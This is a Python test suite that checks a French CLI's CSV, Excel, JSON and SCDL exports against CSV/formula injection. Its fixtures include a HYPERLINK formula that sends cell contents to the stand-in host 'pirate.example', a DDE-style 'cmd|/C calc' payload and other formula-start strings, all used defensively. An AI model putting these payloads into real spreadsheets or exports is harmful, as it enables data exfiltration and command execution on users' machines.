"""Hostile titles, names and file names: never a formula in a spreadsheet, never a broken file.

Anyone can open a pull request whose records CI exports: a title `=HYPERLINK(…)` must reach a
spreadsheet as text (OWASP's CSV injection guidance), control characters and XML specials must
not break the workbook, and the open-data file stays valid.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import openpyxl
from export_testing import replace_in, run_export

from pactecli.export.cells import FORMULA_STARTS

ACTION = "data/conventions/cls/actions/petits-dejeuners.yaml"
TITLE = '=HYPERLINK("http://pirate.example/?"&A1;"Cliquez")'
HOSTILE = {
    "titre": TITLE,
    "public_cible": "+33 6 12 34 56 78",
    "territoire": "@SUM(A1:A9)",
    "motif": "-2+3",
}
ESCAPED = {  # YAML double-quoted escapes: tab, carriage return, NUL, Excel's own escapes
    "libelle": '"\\tcmd|/C calc"',
    "unite": '"\\r=1+1"',
    "source": '"avant\\0après _x0041_ <b>&amp;</b>"',
}


def hostile(root: Path) -> Path:
    text = (root / ACTION).read_text(encoding="utf-8")
    text = text.replace("titre: Petits déjeuners à l'école", f"titre: '{TITLE}'")
    text = text.replace(
        "partenaires: [departement]",
        "partenaires: [departement]\npublic_cible: '+33 6 12 34 56 78'\nterritoire: '@SUM(A1:A9)'",
    )
    text = text.replace("    libelle: Élèves bénéficiaires", f"    libelle: {ESCAPED['libelle']}")
    text = text.replace(
        "    unite: élèves", f"    unite: {ESCAPED['unite']}\n    source: {ESCAPED['source']}"
    )
    (root / ACTION).write_text(text, encoding="utf-8")
    replace_in(
        root,
        "data/partners/les-tartines.yaml",
        "nom: Association Les Tartines",
        "nom: '-Les Tartines'",
    )
    return root


def _cells(folder: Path) -> list[str]:
    found = []
    for path in folder.glob("*.csv"):
        text = path.read_bytes().decode("utf-8-sig")
        found += [
            cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
        ]
    return found


def test_csv_cells_never_start_a_formula(mini: Path) -> None:
    folder = mini.parent / "export"
    run = run_export(hostile(mini), "-o", str(folder))
    assert run.exit_code == 0, run
    cells = _cells(folder)
    assert "'" + TITLE in cells
    assert "'+33 6 12 34 56 78" in cells and "'@SUM(A1:A9)" in cells
    assert "'\tcmd|/C calc" in cells and "'\r=1+1" in cells and "'-Les Tartines" in cells
    assert "avant\ufffdaprès _x0041_ <b>&amp;</b>" in cells  # NUL is no longer there
    assert not [c for c in cells if c[:1] in FORMULA_STARTS]
    assert all(b"\x00" not in p.read_bytes() for p in folder.iterdir())


def test_workbook_holds_text_never_formulas(mini: Path) -> None:
    target = mini.parent / "p.xlsx"
    assert run_export(hostile(mini), "-f", "xlsx", "-o", str(target)).exit_code == 0
    book = openpyxl.load_workbook(target)
    formulas = [
        c.coordinate
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []
    values = {
        excel_text(c.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }
    assert {TITLE, "+33 6 12 34 56 78", "@SUM(A1:A9)", "-Les Tartines"} <= values
    assert {"\tcmd|/C calc", "\r=1+1", "avant\x00après _x0041_ <b>&amp;</b>"} <= values


def excel_text(stored: str) -> str:
    """What Excel shows of a stored string: its `_xHHHH_` escapes decoded (openpyxl keeps them;
    `_x005F_` is the escaped underscore, so a literal `_x0041_` survives)."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), stored)


def test_json_keeps_the_text_exactly(mini: Path) -> None:
    run = run_export(hostile(mini), "-f", "json")
    tables = json.loads(run.stdout)["tables"]
    titles = {a["action"]: a["titre"] for a in tables["actions"]}
    assert titles["petits-dejeuners"] == TITLE


def test_scdl_stays_valid_with_hostile_names(mini: Path) -> None:
    run = run_export(hostile(mini), "-f", "scdl-subventions")
    assert run.exit_code == 0, run
    rows = list(csv.DictReader(io.StringIO(run.stdout, newline="")))
    assert [r["nomBeneficiaire"] for r in rows] == ["'-Les Tartines", "'-Les Tartines"]
    assert rows[1]["objet"] == "'" + TITLE


def test_hostile_file_names_and_ids_under_force(mini: Path) -> None:
    (mini / "data/partners/=1+1.yaml").write_text(
        "id: '=1+1'\nnom: '=cmd|/C calc'\ncategorie: association\nsignataire_pacte: false\n",
        encoding="utf-8",
    )
    folder = mini.parent / "export"
    run = run_export(mini, "-o", str(folder), "--force")
    assert run.exit_code == 0, run
    cells = _cells(folder)
    assert "'=1+1" in cells and "'=cmd|/C calc" in cells
    assert not [c for c in cells if c[:1] in FORMULA_STARTS]


def test_workbook_names_a_broken_file_whose_name_is_not_utf8(mini: Path) -> None:
    # The key-figures sheet lists the records left out under --force: a file name git can store
    # but that is not UTF-8 (`\xff`) reached XlsxWriter's shared strings as a lone surrogate.
    name = os.fsdecode(b"data/partners/\xffmsa.yaml")
    (mini / name).write_bytes(b": : not yaml [\n")
    out = mini.parent / "pacte.xlsx"
    run = run_export(mini, "--format", "xlsx", "-o", str(out), "--force")
    assert run.exit_code == 0, run
    sheet = openpyxl.load_workbook(out, read_only=True)["Chiffres clés"]
    lines = [str(row[0]) for row in sheet.iter_rows(values_only=True) if row and row[0]]
    assert [line for line in lines if "msa.yaml" in line], lines
    assert not [line for line in lines if "\udcff" in line]
